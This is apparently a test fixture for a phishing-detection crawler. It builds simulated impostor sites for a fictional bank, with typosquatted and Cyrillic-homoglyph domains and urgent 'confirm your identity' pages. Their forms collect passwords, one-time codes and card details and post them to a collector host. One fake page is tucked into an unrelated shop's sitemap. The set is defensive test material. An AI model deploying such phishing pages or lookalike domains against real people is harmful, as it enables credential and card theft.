import type { Asking, Site } from '../../../testbed/labelled-site.ts';
import { logoPicture } from '../../../testbed/logo-picture.ts';
import { sampleBrands, type SampleBrand } from '../../../testbed/sample-brands.ts';
import { everydaySites } from './everyday-sites.ts';
import { htmlPage } from './html-page.ts';

/** Whom the demo watches. */
export const watched: SampleBrand = sampleBrands.veltrano;
export const logoPath = '/logo.png';
export const target = 'veltrano-login.com';

export interface Impostor {
  host: string;
  path: string;
  /** How the crawler hears of it. */
  foundBy: 'seed' | 'sitemap' | 'report';
  site: Site;
}

const logo = async () => ({
  headers: { 'content-type': 'image/png', 'cache-control': 'max-age=3600' },
  body: await logoPicture(watched),
});
const image = `<img src="${logoPath}" alt="${watched.name}" width="316">`;

const fields = {
  password:
    '<label>E-mail <input type="email" name="u"></label><label>Password <input type="password" name="p" autocomplete="current-password"></label>',
  code: '<label>One-time code <input name="o" autocomplete="one-time-code" inputmode="numeric"></label>',
  card: '<label>Card number <input name="n" autocomplete="cc-number"></label><label>Valid until <input autocomplete="cc-exp"></label><label>CVC <input autocomplete="cc-csc"></label>',
};

/** A page that shows the logo and asks for what only the bank should be told. */
const kit =
  (words: string, asks: (keyof typeof fields)[]) =>
  ({ urlOf }: Asking) =>
    htmlPage(
      `${watched.name}: ${words}`,
      `${image}<h1>${words}</h1><p>For your safety ${watched.name} asks every customer to confirm who they are. Your account is limited until then.</p>
       <form action="${urlOf('collect-2291.net', '/post')}" method="post">${asks.map((each) => fields[each]).join('')}<button>Continue</button></form>
       <p>&copy; ${watched.name}</p>`,
    );

const impostor = (
  host: string,
  page: ReturnType<typeof kit>,
  {
    path = '/',
    foundBy = 'seed',
    more = {},
  }: { path?: string; foundBy?: Impostor['foundBy']; more?: Site['pages'] } = {},
): Impostor => {
  // Names of other scripts are looked up, and visited, in punycode.
  const { hostname } = new URL(`http://${host}`);
  return {
    host: hostname,
    path,
    foundBy,
    site: { host: hostname, pages: { [path]: page, [logoPath]: logo, ...more } },
  };
};

const robots = (body: string) => ({ '/robots.txt': { headers: { 'content-type': 'text/plain' }, body } });
const bargains = ({ urlOf }: Asking) => ({
  headers: { 'content-type': 'application/xml' },
  body: `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${[
    '/',
    '/veltrano-account',
  ]
    .map((path) => `<url><loc>${urlOf('bargain-list.net', path)}</loc></url>`)
    .join('')}</urlset>`,
});

export const impostors: readonly Impostor[] = [
  impostor(target, kit('Sign in', ['password', 'code'])),
  impostor('veltrano-secure.net', kit('Confirm your card', ['card'])),
  impostor('veltrano-verify.de', kit('Confirm your identity', ['password', 'card'])),
  impostor('my-veltrano.info', kit('Your account', ['password', 'code'])),
  impostor('velltrano.com', kit('Sign in', ['password'])),
  impostor('veltran0.com', kit('Online banking', ['password', 'code'])),
  // The third letter from the end is Cyrillic.
  impostor('veltr\u0430no.com', kit('Sign in to your account', ['password', 'code'])),
  impostor('veltrano.session-check.net', kit('Your session has ended', ['password', 'code'])),
  impostor('bargain-list.net', kit('Account upgrade', ['password', 'card']), {
    path: '/veltrano-account',
    foundBy: 'sitemap',
    more: {
      '/': htmlPage(
        'Bargains of the week',
        '<h1>Bargains of the week</h1><p>Lamps, rugs and garden chairs, while stocks last.</p>',
      ),
      '/sitemap.xml': bargains,
    },
  }),
  impostor('veltrano-support.org', kit('Unlock your card', ['card', 'code']), {
    foundBy: 'report',
    more: robots('User-agent: *\nDisallow: /\n'),
  }),
];

const own = (host: string, words: string): Site => ({
  host,
  pages: {
    '/': htmlPage(
      watched.name,
      `${image}<h1>${words}</h1><p>${watched.promise}</p><form action="/in" method="post">${fields.password}<button>Sign in</button></form>`,
    ),
    [logoPath]: logo,
  },
});

/** Everybody else: the brand itself, those who may use its name, and people who have nothing to do with it. */
export const honestSites: readonly Site[] = [
  ...watched.officialDomains.map((host) => own(host, 'Welcome')),
  ...watched.authorisedDomains.map((host) => own(host, `Partner of ${watched.name}`)),
  ...everydaySites(watched),
];
